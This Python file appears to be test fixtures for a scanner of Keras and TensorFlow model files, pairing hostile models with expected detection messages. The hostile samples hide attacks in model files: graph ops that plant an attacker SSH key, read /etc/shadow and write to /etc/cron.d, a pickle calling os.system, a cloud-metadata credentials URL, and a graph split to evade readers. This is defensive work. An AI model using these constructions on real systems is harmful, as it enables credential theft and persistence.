"""Hostile and benign Keras configs and TensorFlow SavedModels for the Keras/TF code-path scans.

TensorFlow is not installable here, so saved_model.pb is written by the small protobuf encoder
below, field by field from tensorflow/core/framework/*.proto and protobuf/*.proto. Each writer
takes a directory, creates it, and returns the model it wrote (a .keras file or a SavedModel
directory). A payload, if it ever runs, creates hostile.marker(directory).
"""

from __future__ import annotations

import base64
import io
import zipfile
from collections.abc import Iterable, Mapping
from pathlib import Path
from typing import Any

from tests.unit.validator import formats
from tests.unit.validator.hostile import (
    Writer,
    dense,
    keras_model,
    keras_zip,
    op_call,
    op_global,
    op_str,
    payload_command,
    whole_pickle,
)

# --- A protobuf encoder --------------------------------------------------------------------

_VARINT, _LEN = 0, 2
DT_STRING, DT_FLOAT = 7, 1  # tensorflow/core/framework/types.proto


varint = formats._varint  # one protobuf varint encoder for the ONNX and SavedModel fixtures


def key(number: int, wire_type: int) -> bytes:
    return varint(number << 3 | wire_type)


def field_varint(number: int, value: int) -> bytes:
    return key(number, _VARINT) + varint(value)


def field_bytes(number: int, payload: bytes | str) -> bytes:
    data = payload.encode() if isinstance(payload, str) else payload
    return key(number, _LEN) + varint(len(data)) + data


def map_entry(number: int, name: str, value: bytes) -> bytes:
    """One entry of a map<string, Message> field: a message {key = 1; value = 2}."""
    return field_bytes(number, field_bytes(1, name) + field_bytes(2, value))


# AttrValue: list = 1, s = 2, i = 3, type = 6, tensor = 8, placeholder = 9, func = 10


def attr_s(value: bytes | str) -> bytes:
    return field_bytes(2, value)


def attr_type(dtype: int) -> bytes:
    return field_varint(6, dtype)


def attr_type_list(*dtypes: int) -> bytes:
    return field_bytes(1, b"".join(field_varint(6, t) for t in dtypes))


def attr_func(name: str, attrs: Mapping[str, bytes] | None = None) -> bytes:
    """AttrValue.func: a NameAttrList {name = 1; map<string, AttrValue> attr = 2}."""
    body = field_bytes(1, name) + b"".join(map_entry(2, k, v) for k, v in (attrs or {}).items())
    return field_bytes(10, body)


def attr_string_tensor(*values: str) -> bytes:
    """AttrValue.tensor: a TensorProto {dtype = 1; tensor_shape = 2; string_val = 8}."""
    tensor = field_varint(1, DT_STRING) + field_bytes(2, b"")
    tensor += b"".join(field_bytes(8, v) for v in values)
    return field_bytes(8, tensor)


def node_def(
    name: str, op: str, inputs: Iterable[str] = (), attrs: Mapping[str, bytes] | None = None
) -> bytes:
    """NodeDef {name = 1; op = 2; repeated input = 3; device = 4; map attr = 5}."""
    body = field_bytes(1, name) + field_bytes(2, op)
    body += b"".join(field_bytes(3, i) for i in inputs)
    body += b"".join(map_entry(5, k, v) for k, v in (attrs or {}).items())
    return body


def function_def(name: str, nodes: Iterable[bytes]) -> bytes:
    """FunctionDef {signature = 1 (OpDef {name = 1}); repeated node_def = 3}."""
    return field_bytes(1, field_bytes(1, name)) + b"".join(field_bytes(3, n) for n in nodes)


def graph_def(nodes: Iterable[bytes], functions: Iterable[bytes] = ()) -> bytes:
    """GraphDef {repeated node = 1; library = 2 (FunctionDefLibrary {function = 1});
    versions = 4 (VersionDef {producer = 1})}."""
    body = b"".join(field_bytes(1, n) for n in nodes)
    library = b"".join(field_bytes(1, f) for f in functions)
    if library:
        body += field_bytes(2, library)
    return body + field_bytes(4, field_varint(1, 1645))


def meta_graph(*graphs: bytes, tags: Iterable[str] = ("serve",)) -> bytes:
    """MetaGraphDef {meta_info_def = 1 (tags = 4, tensorflow_version = 5); graph_def = 2}. More
    than one graph gives graph_def more than once, which a protobuf parser merges."""
    info = b"".join(field_bytes(4, t) for t in tags) + field_bytes(5, "2.16.1")
    return field_bytes(1, info) + b"".join(field_bytes(2, g) for g in graphs)


def saved_model_pb(*meta_graphs: bytes) -> bytes:
    """SavedModel {saved_model_schema_version = 1; repeated meta_graphs = 2}."""
    return field_varint(1, 1) + b"".join(field_bytes(2, m) for m in meta_graphs)


# --- Graph pieces, named as tf.saved_model.save names them ---------------------------------


def call(name: str, function: str, inputs: Iterable[str] = ()) -> bytes:
    return node_def(name, "StatefulPartitionedCall", inputs, {"f": attr_func(function)})


def string_const(name: str, value: str) -> bytes:
    return node_def(
        name, "Const", (), {"dtype": attr_type(DT_STRING), "value": attr_string_tensor(value)}
    )


def placeholder(name: str, dtype: int = DT_FLOAT) -> bytes:
    return node_def(name, "Placeholder", (), {"dtype": attr_type(dtype)})


def _saver_nodes() -> list[bytes]:
    """The graph-level half of the saver every tf.saved_model.save writes."""
    return [
        placeholder("saver_filename", DT_STRING),
        call("StatefulPartitionedCall_1", "__inference__traced_save_88", ["saver_filename"]),
        call("StatefulPartitionedCall_2", "__inference__traced_restore_112", ["saver_filename"]),
    ]


def _traced_save() -> bytes:
    return function_def(
        "__inference__traced_save_88",
        [
            string_const("StaticRegexFullMatch/pattern", "^s3://.*"),
            node_def("StaticRegexFullMatch", "StaticRegexFullMatch", ["file_prefix"]),
            string_const("Const", ".part"),
            string_const("Const_1", "_temp/part"),
            node_def("Select", "Select", ["StaticRegexFullMatch", "Const", "Const_1"]),
            node_def("StringJoin", "StringJoin", ["file_prefix", "Select"]),
            node_def("ShardedFilename", "ShardedFilename", ["StringJoin", "shard", "num_shards"]),
            node_def(
                "SaveV2",
                "SaveV2",
                ["ShardedFilename", "SaveV2/tensor_names", "SaveV2/shape_and_slices"],
                {"dtypes": attr_type_list(DT_FLOAT, DT_FLOAT)},
            ),
            node_def(
                "MergeV2Checkpoints", "MergeV2Checkpoints", ["ShardedFilename", "file_prefix"]
            ),
            node_def("Identity", "Identity", ["file_prefix"]),
            node_def("NoOp", "NoOp"),
        ],
    )


def _traced_restore() -> bytes:
    return function_def(
        "__inference__traced_restore_112",
        [
            node_def(
                "RestoreV2",
                "RestoreV2",
                ["file_prefix", "RestoreV2/tensor_names", "RestoreV2/shape_and_slices"],
                {"dtypes": attr_type_list(DT_FLOAT, DT_FLOAT)},
            ),
            node_def("Identity", "Identity", ["RestoreV2"]),
            node_def("AssignVariableOp", "AssignVariableOp", ["dense_kernel", "Identity"]),
            node_def("NoOp", "NoOp"),
        ],
    )


def _dense_call(name: str, extra: Iterable[bytes] = ()) -> bytes:
    return function_def(
        name,
        [
            node_def("dense/MatMul/ReadVariableOp", "ReadVariableOp", ["resource"]),
            node_def("dense/MatMul", "MatMul", ["inputs", "dense/MatMul/ReadVariableOp"]),
            node_def("dense/BiasAdd", "BiasAdd", ["dense/MatMul", "dense/BiasAdd/ReadVariableOp"]),
            node_def("dense/Relu", "Relu", ["dense/BiasAdd"]),
            *extra,
        ],
    )


def serving_graph(call_body: Iterable[bytes] = (), graph_nodes: Iterable[bytes] = ()) -> bytes:
    """A tf.saved_model.save-shaped graph: variables, a serving signature calling a Dense layer
    through two functions, and the saver; `call_body` goes into the layer's function."""
    nodes = [
        node_def("dense/kernel", "VarHandleOp", (), {"dtype": attr_type(DT_FLOAT)}),
        node_def("dense/bias", "VarHandleOp", (), {"dtype": attr_type(DT_FLOAT)}),
        placeholder("serving_default_inputs"),
        call(
            "StatefulPartitionedCall",
            "__inference_signature_wrapper_63",
            ["serving_default_inputs"],
        ),
        *_saver_nodes(),
        *graph_nodes,
    ]
    functions = [
        function_def(
            "__inference_signature_wrapper_63",
            [call("StatefulPartitionedCall", "__inference_call_41", ["inputs"])],
        ),
        _dense_call("__inference_call_41", call_body),
        _traced_save(),
        _traced_restore(),
    ]
    return graph_def(nodes, functions)


def saved_model_dir(directory: Path, pb: bytes) -> Path:
    """saved_model.pb plus variables/, laid out as TensorFlow writes them."""
    model = directory / "saved_model"
    variables = model / "variables"
    variables.mkdir(parents=True, exist_ok=True)
    (model / "saved_model.pb").write_bytes(pb)
    for name, data in _variables():
        (model / name).write_bytes(data)
    return model


def _variables() -> list[tuple[str, bytes]]:
    # a checkpoint index ends in the table footer magic; the shard is opaque bytes
    index = b"\x00" * 40 + bytes.fromhex("57fb808b247547db")
    return [
        ("variables/variables.index", index),
        ("variables/variables.data-00000-of-00001", b"\x00" * 256),
    ]


# --- Hostile: SavedModels ------------------------------------------------------------------


def write_saved_model_readfile(directory: Path) -> Path:
    """ReadFile on a constant path, in the graph itself (TF1-style graph_def nodes)."""
    nodes = [
        string_const("path", "/etc/passwd"),
        node_def("ReadFile", "ReadFile", ["path"]),
        node_def("Identity", "Identity", ["ReadFile"]),
    ]
    return saved_model_dir(directory, saved_model_pb(meta_graph(serving_graph(graph_nodes=nodes))))


def write_saved_model_pyfunc_in_function_library(directory: Path) -> Path:
    """tf.py_function inside the layer's call: an EagerPyFunc two functions deep."""
    pyfunc = node_def(
        "EagerPyFunc",
        "EagerPyFunc",
        ["dense/Relu"],
        {
            "token": attr_s("pyfunc_0"),
            "Tin": attr_type_list(DT_FLOAT),
            "Tout": attr_type_list(DT_FLOAT),
        },
    )
    return saved_model_dir(directory, saved_model_pb(meta_graph(serving_graph([pyfunc]))))


def write_saved_model_writefile(directory: Path) -> Path:
    """tf.io.write_file in the layer's call: each request writes a file on the server."""
    body = [
        string_const("path", "/root/.ssh/authorized_keys"),
        string_const("key", "ssh-ed25519 AAAA attacker"),
        node_def("WriteFile", "WriteFile", ["path", "key"]),
    ]
    return saved_model_dir(directory, saved_model_pb(meta_graph(serving_graph(body))))


def write_saved_model_readfile_via_call_attr(directory: Path) -> Path:
    """No ReadFile node anywhere: a PartitionedCall whose f attribute names the primitive op,
    which TensorFlow's function runtime instantiates as a one-node function."""
    body = [
        string_const("path", "/etc/shadow"),
        node_def(
            "read",
            "PartitionedCall",
            ["path"],
            {"f": attr_func("ReadFile"), "Tin": attr_type_list(DT_STRING)},
        ),
    ]
    return saved_model_dir(directory, saved_model_pb(meta_graph(serving_graph(body))))


def write_saved_model_printv2_to_file(directory: Path) -> Path:
    """tf.print(..., output_stream="file:///...") appends to a file on every call."""
    body = [
        node_def("StringFormat", "StringFormat", ["dense/Relu"]),
        node_def(
            "PrintV2",
            "PrintV2",
            ["StringFormat"],
            {"output_stream": attr_s("file:///etc/cron.d/evil"), "end": attr_s("\n")},
        ),
    ]
    return saved_model_dir(directory, saved_model_pb(meta_graph(serving_graph(body))))


def write_saved_model_split_graph_def(directory: Path) -> Path:
    """graph_def twice in one MetaGraphDef: a parser merges both, so the second one's
    MatchingFiles is in the graph that runs, though a reader of the first copy misses it."""
    second = graph_def(
        [string_const("glob", "/home/*/.aws/*"), node_def("ls", "MatchingFiles", ["glob"])]
    )
    pb = saved_model_pb(meta_graph(serving_graph(), second))
    return saved_model_dir(directory, pb)


# --- Hostile: Keras ------------------------------------------------------------------------


def keras_layer(class_name: str, config: dict[str, Any], module: str = "keras.layers") -> Any:
    return {"module": module, "class_name": class_name, "config": config, "registered_name": None}


def _torch_save_bytes(data_pkl: bytes) -> bytes:
    """torch.save's zip layout, in memory (as TorchModuleWrapper.get_config writes it)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("archive/data.pkl", data_pkl)
        zf.writestr("archive/byteorder", "little")
        zf.writestr("archive/version", "3\n")
    return buffer.getvalue()


def torch_module_payload(directory: Path) -> bytes:
    """A torch.save'd "module" whose data.pkl calls os.system: torch.load(weights_only=False),
    as TorchModuleWrapper.from_config does, runs it. Written opcode by opcode: nothing runs."""
    data_pkl = whole_pickle(op_call(op_global("os", "system"), op_str(payload_command(directory))))
    return _torch_save_bytes(data_pkl)


def write_keras_torch_module_wrapper_zip(directory: Path) -> Path:
    module = base64.b64encode(torch_module_payload(directory)).decode("ascii")
    config = {
        "name": "torch_module_wrapper",
        "trainable": True,
        "module": module,
        "output_shape": None,
    }
    layer = keras_layer("TorchModuleWrapper", config)
    return keras_zip(directory / "model.keras", keras_model(layer, dense()))


def write_keras_tfsm_layer_zip(directory: Path) -> Path:
    config = {
        "name": "tfsm_layer",
        "trainable": True,
        "filepath": "/tmp/attacker_saved_model",
        "call_endpoint": "serve",
        "call_training_endpoint": None,
    }
    return keras_zip(directory / "model.keras", keras_model(keras_layer("TFSMLayer", config)))


def _lookup(vocabulary: Any) -> Any:
    config = {
        "name": "string_lookup",
        "trainable": True,
        "max_tokens": None,
        "num_oov_indices": 1,
        "oov_token": "[UNK]",
        "mask_token": None,
        "output_mode": "int",
        "vocabulary_dtype": "string",
        "idf_weights": None,
        "vocabulary": vocabulary,
        "vocabulary_size": 3,
        "invert": False,
    }
    return keras_layer("StringLookup", config)


def write_keras_string_lookup_path_zip(directory: Path) -> Path:
    return keras_zip(directory / "model.keras", keras_model(_lookup("/etc/passwd"), dense()))


def write_keras_text_vectorization_url_zip(directory: Path) -> Path:
    config = {
        "name": "text_vectorization",
        "max_tokens": None,
        "standardize": "lower_and_strip_punctuation",
        "split": "whitespace",
        "output_mode": "int",
        "vocabulary": "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "vocabulary_size": 4,
    }
    return keras_zip(
        directory / "model.keras", keras_model(keras_layer("TextVectorization", config))
    )


def write_keras_zip_with_saved_model_readfile(directory: Path) -> Path:
    """A benign-looking .keras whose archive also carries a SavedModel with a ReadFile op."""
    path = keras_zip(directory / "model.keras", keras_model(dense()))
    nodes = [string_const("path", "/etc/passwd"), node_def("ReadFile", "ReadFile", ["path"])]
    pb = saved_model_pb(meta_graph(serving_graph(graph_nodes=nodes)))
    with zipfile.ZipFile(path, "a") as zf:
        zf.writestr("assets/exported/saved_model.pb", pb)
        for name, data in _variables():
            zf.writestr(f"assets/exported/{name}", data)
    return path


# --- Benign --------------------------------------------------------------------------------


def write_saved_model_benign_saver_graph(directory: Path) -> Path:
    """Everything an ordinary exported model holds: variables, MatMul, the saver's SaveV2 /
    RestoreV2 / StringJoin / ShardedFilename / MergeV2Checkpoints in graph and library, an
    asset vocabulary table, and a tf.print to stderr."""
    body = [
        node_def("hash_table", "HashTableV2"),
        string_const("asset_path", "vocab.txt"),
        node_def("init", "InitializeTableFromTextFileV2", ["hash_table", "asset_path"]),
        node_def("StringFormat", "StringFormat", ["dense/Relu"]),
        node_def("PrintV2", "PrintV2", ["StringFormat"], {"output_stream": attr_s("stderr")}),
    ]
    graph_saver = [
        string_const("save/filename", "model"),
        node_def("save/SaveV2", "SaveV2", ["save/filename"]),
        node_def("save/RestoreV2", "RestoreV2", ["save/filename"]),
        node_def("save/MergeV2Checkpoints", "MergeV2Checkpoints", ["save/filename"]),
        node_def("save/ShardedFilename", "ShardedFilename", ["save/filename"]),
        node_def("save/StringJoin", "StringJoin", ["save/filename"]),
    ]
    pb = saved_model_pb(meta_graph(serving_graph(body, graph_saver)))
    return saved_model_dir(directory, pb)


def write_keras_zip_string_lookup_inline_vocab(directory: Path) -> Path:
    lookup = _lookup(["cat", "dog", "fish"])
    return keras_zip(directory / "model.keras", keras_model(lookup, dense()))


# --- Registries ----------------------------------------------------------------------------

HOSTILE: dict[str, Writer] = {
    "keras_torch_module_wrapper_zip": write_keras_torch_module_wrapper_zip,
    "keras_tfsm_layer_zip": write_keras_tfsm_layer_zip,
    "keras_string_lookup_path_zip": write_keras_string_lookup_path_zip,
    "keras_text_vectorization_url_zip": write_keras_text_vectorization_url_zip,
    "keras_zip_with_saved_model_readfile": write_keras_zip_with_saved_model_readfile,
    "saved_model_readfile": write_saved_model_readfile,
    "saved_model_pyfunc_in_function_library": write_saved_model_pyfunc_in_function_library,
    "saved_model_writefile": write_saved_model_writefile,
    "saved_model_readfile_via_call_attr": write_saved_model_readfile_via_call_attr,
    "saved_model_printv2_to_file": write_saved_model_printv2_to_file,
    "saved_model_split_graph_def": write_saved_model_split_graph_def,
}

BENIGN: dict[str, Writer] = {
    "saved_model_benign_saver_graph": write_saved_model_benign_saver_graph,
    "keras_zip_string_lookup_inline_vocab": write_keras_zip_string_lookup_inline_vocab,
}

# What the findings must say: each substring in some finding of the fixture.
EXPECTED: dict[str, tuple[str, ...]] = {
    "keras_torch_module_wrapper_zip": (
        "Keras TorchModuleWrapper layer 'torch_module_wrapper': a pickled torch module that "
        "torch.load runs when the model is built (CVE-2025-49655)",
    ),
    "keras_tfsm_layer_zip": (
        "Keras TFSMLayer layer 'tfsm_layer': loads the SavedModel at '/tmp/attacker_saved_model'",
        "(CVE-2026-1462)",
    ),
    "keras_string_lookup_path_zip": (
        "Keras StringLookup layer 'string_lookup': vocabulary '/etc/passwd' is a file outside "
        "the model, read when the model is built (CVE-2025-12058)",
    ),
    "keras_text_vectorization_url_zip": (
        "Keras TextVectorization layer 'text_vectorization': vocabulary "
        "'http://169.254.169.254/latest/meta-data/iam/security-credentials/' is fetched from a "
        "URL when the model is built (CVE-2025-12058)",
    ),
    "keras_zip_with_saved_model_readfile": (
        "assets/exported/saved_model.pb: op ReadFile in the graph (node 'ReadFile'): reads any "
        "file on the host",
    ),
    "saved_model_readfile": (
        "op ReadFile in the graph (node 'ReadFile'): reads any file on the host when the graph "
        "runs",
    ),
    "saved_model_pyfunc_in_function_library": (
        "op EagerPyFunc in function __inference_call_41 (node 'EagerPyFunc'): calls back into "
        "Python code",
    ),
    "saved_model_writefile": (
        "op WriteFile in function __inference_call_41 (node 'WriteFile'): writes any file",
    ),
    "saved_model_readfile_via_call_attr": (
        "op ReadFile called through attribute 'f' of function __inference_call_41 (node 'read')",
    ),
    "saved_model_printv2_to_file": (
        "op PrintV2 in function __inference_call_41 (node 'PrintV2'): appends to the file named "
        "in its output_stream attribute",
    ),
    "saved_model_split_graph_def": ("op MatchingFiles in the graph (node 'ls')",),
}
